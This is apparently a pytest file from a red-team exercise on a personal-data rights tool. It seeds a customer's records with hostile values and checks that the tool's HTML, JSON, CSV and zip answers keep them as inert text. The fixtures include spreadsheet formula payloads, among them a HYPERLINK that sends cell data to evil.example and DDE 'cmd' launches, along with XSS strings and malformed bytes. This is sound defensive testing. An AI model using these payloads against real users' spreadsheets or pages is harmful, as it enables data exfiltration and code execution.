"""A customer's own data, however hostile, reaches the answers garde writes as text (red team of
2026-12-07, red22).

A customer controls what the shop stores of them: their name, address and interests as they typed
them. Here customer 1 of the reference shop holds spreadsheet formulas (with a tab or a carriage
return before them), HTML and script, a `javascript:` address, a right-to-left override and a
zero-width space, a text of 200,000 characters; on SQLite also a NUL and bytes that are not UTF-8
(SQLite stores whatever a program writes as TEXT); on PostgreSQL a JSONB value nested 5,000 levels
deep (PostgreSQL keeps it; Python's decoder stops near 1,000). Their access, portability and erasure
requests must complete, and every file of the answer must hold those values as text: the JSON as
data, the HTML escaped (no element, attribute or script of theirs, read by an HTML5 parser and run
in Chromium), the CSV cells a spreadsheet would run quoted, the zip's members named by the data map.

Found: bytes that are not UTF-8 stopped every request of the customer (the read failed; the request
stayed ``in_progress`` with the database's message), and so did the deep JSONB value (a
RecursionError at the read).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from selectolax.lexbor import LexborHTMLParser

from garde.documents.spreadsheet import FORMULA_STARTS, QUOTE
from garde.rights import submit, verify_out_of_band
from garde.rights.access import report_ready
from garde.rights.deployment import Deployment
from garde.rights.running import run
from garde.shop import generate_shop
from garde.store import connect, migrate
from tests.conftest import ROOT, scratch_databases

#: customers' columns: formulas as the OWASP CSV-injection page lists them, behind blanks too.
CUSTOMER = {"first_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            "last_name": "+cmd|' /C calc'!A0",
            "title": "\t=1+1",
            "language": "@SUM(1+1)*cmd|' /C calc'!A0"}
#: addresses' columns: markup and script for the HTML answer (each sets ``window.owned`` if it runs).
ADDRESS = {"recipient": '"><img src=x onerror="window.owned=1">',
           "street": "<script>window.owned=2</script>\u202egnp.exe\u200b",
           "city": "javascript:window.owned=3//",
           "postal_code": "\r-1+2"}
LONG = "Ø" * 200_000
DEEP = 5000


@dataclass
class Shop:
    store: sa.Engine
    deployment: Deployment
    email: str
    kind: str  # sqlite or postgresql

    def answered(self, kind: str) -> Path:
        """The folder of the answer of a ``kind`` request of customer 1, completed."""
        with self.store.begin() as conn:
            request = submit(conn, kind, {"email": self.email})
            verify_out_of_band(conn, request.id, "identity card checked", actor="agent:test",
                               identities=["email"])
        done = run(self.store, request.id, self.deployment)
        assert done.status == "completed", done.steps[-1]
        report_ready(self.deployment.results / request.id, self.deployment.results)  # as a reader sees it
        return self.deployment.results / request.id


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def shop(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Shop]:
    admin = request.getfixturevalue("postgres_admin_url") if request.param == "postgresql" else None
    with scratch_databases(("shop", "crm", "garde"), tmp_path, admin) as urls:
        deployment = Deployment.open(ROOT / "datasets", results=tmp_path / "results",
                                     urls={db: urls[db] for db in ("shop", "crm")}, create=True)
        generate_shop(deployment.engines, 20, seed=5, as_of=date(2025, 6, 1), batch_size=20)
        if request.param == "postgresql":  # a shop whose columns are TEXT (the reference one bounds them)
            for database, table, columns in (("shop", "customers", [*CUSTOMER]),
                                             ("shop", "addresses", [*ADDRESS]),
                                             ("shop", "invoices", ["billing_address"]),
                                             ("crm", "contacts", ["first_name", "last_name"])):
                with deployment.engines[database].begin() as conn:
                    conn.execute(sa.text(f"ALTER TABLE {table} " + ", ".join(
                        f"ALTER COLUMN {column} TYPE text" for column in columns)))
        with deployment.engines["shop"].begin() as conn:
            email = conn.execute(sa.text("SELECT email FROM customers WHERE id = 1")).scalar_one()
            conn.execute(sa.text("UPDATE customers SET first_name = :first_name, last_name = :last_name, "
                                 "title = :title, language = :language WHERE id = 1"), CUSTOMER)
            conn.execute(sa.text("UPDATE addresses SET recipient = :recipient, street = :street, "
                                 "city = :city, postal_code = :postal_code WHERE customer_id = 1"), ADDRESS)
            conn.execute(sa.text("UPDATE invoices SET billing_address = :long WHERE order_id IN "
                                 "(SELECT id FROM orders WHERE customer_id = 1)"), {"long": LONG})
            if request.param == "sqlite":
                # a NUL, and Latin-1 bytes stored as TEXT (what a program that never checks writes)
                conn.execute(sa.text("UPDATE invoices SET billing_name = :n WHERE order_id IN "
                                     "(SELECT id FROM orders WHERE customer_id = 1)"), {"n": "F\x00R"})
                conn.exec_driver_sql("UPDATE customers SET country = CAST(X'4DE96E65' AS TEXT) WHERE id = 1")
        with deployment.engines["crm"].begin() as conn:
            if request.param == "postgresql":  # the contact's interests as the shop's JSONB
                conn.execute(sa.text("ALTER TABLE contacts ALTER COLUMN interests TYPE jsonb USING "
                                     "to_jsonb(interests)"))
            deep = "[" * DEEP + "]" * DEEP
            forged = conn.execute(sa.text("SELECT COALESCE(MAX(id), 0) + 1 FROM contacts")).scalar_one()
            conn.execute(sa.text("INSERT INTO contacts (id, email, first_name, last_name, language, source, "
                                 "interests, created_at, last_contact_at) VALUES (:i, :e, :f, :l, 'fr', "
                                 "'website', :deep, :t, :t)"),
                         {"i": forged, "e": email, "f": ADDRESS["recipient"], "l": CUSTOMER["first_name"],
                          "deep": deep, "t": date(2025, 5, 1)})
        store = connect(urls["garde"], create=True)
        migrate(store)
        yield Shop(store, deployment, email, request.param)
        deployment.dispose()
        store.dispose()


def _customer_row(answer: dict[str, Any]) -> dict[str, Any]:
    rows = answer["tables"]["shop.customers"]
    assert len(rows) == 1
    return rows[0]  # type: ignore[no-any-return]


def test_the_access_answer_holds_a_hostile_customers_values_as_text(shop: Shop) -> None:
    folder = shop.answered("access")
    answer = json.loads((folder / "access.json").read_text(encoding="utf-8"))
    customer = _customer_row(answer)
    for column, value in CUSTOMER.items():
        assert customer[column] == value
    cities = {row["city"] for row in answer["tables"]["shop.addresses"]}
    assert ADDRESS["city"] in cities
    if shop.kind == "sqlite":
        names = {row["billing_name"] for row in answer["tables"]["shop.invoices"]}
        assert customer["country"] == "M\ufffdne" and names == {"F\x00R"}  # shown, not a failed request
    contact = next(row for row in answer["tables"]["crm.contacts"]
                   if row["first_name"] == ADDRESS["recipient"])
    assert contact["interests"] == "[" * DEEP + "]" * DEEP  # too deep for Python: kept as its text

    html = (folder / "access.html").read_text(encoding="utf-8")
    tree = LexborHTMLParser(html)
    assert tree.css("script, img, iframe, object, embed") == []
    assert not [node for node in tree.css("*") if any(name.startswith("on") for name in node.attributes)]
    assert not [node for node in tree.css("[href]") if "javascript" in (node.attributes["href"] or "")]
    text = tree.body.text() if tree.body is not None else ""
    for value in (*CUSTOMER.values(), ADDRESS["recipient"], ADDRESS["street"], ADDRESS["city"]):
        assert value.strip() in text


def test_the_access_answer_runs_no_script_of_the_customer_in_a_browser(shop: Shop, browser: Any) -> None:
    if shop.kind != "sqlite":
        pytest.skip("the report is the same HTML on both databases: read once")
    folder = shop.answered("access")
    page = browser.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page.goto((folder / "access.html").as_uri())
        page.wait_for_load_state("load")
        assert page.evaluate("() => window.owned === undefined && document.images.length === 0")
        assert page.evaluate("() => document.scripts.length") == 0
        assert page.get_by_text(ADDRESS["recipient"]).count() >= 1  # shown as the customer wrote it
    finally:
        page.close()
    assert dialogs == []


def test_the_portability_export_quotes_what_a_spreadsheet_would_run(shop: Shop) -> None:
    folder = shop.answered("portability")
    with zipfile.ZipFile(folder / "portability.zip") as archive:
        names = archive.namelist()
        assert all(name == "data.json" or name.removesuffix(".csv").replace(".", "_").isidentifier()
                   for name in names), names
        data = json.loads(archive.read("data.json"))
        assert data["shop.customers"][0]["first_name"] == CUSTOMER["first_name"]  # the JSON is the data
        cells = [cell for name in names if name.endswith(".csv")
                 for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
                 for cell in row]
    exported = data["shop.customers"][0]
    quoted = [value for column, value in CUSTOMER.items() if column in exported] + [ADDRESS["postal_code"]]
    for value in quoted:
        assert QUOTE + value in cells, value
    running = [cell for cell in cells if cell[:1] in FORMULA_STARTS | {"\t", "\r"}
               and not cell.lstrip("+-").replace(".", "", 1).isdigit()]
    assert running == []


def test_the_customer_is_erased_whatever_bytes_their_rows_hold(shop: Shop) -> None:
    folder = shop.answered("erasure")
    report = json.loads((folder / "erasure.json").read_text(encoding="utf-8"))
    assert report["status"] == "completed"
    with shop.deployment.engines["shop"].connect() as conn:  # the row stays (orders point at it), emptied
        left = conn.execute(sa.text("SELECT first_name, last_name, title, language, country FROM customers "
                                    "WHERE id = 1")).one()
    assert set(left) == {None}, left
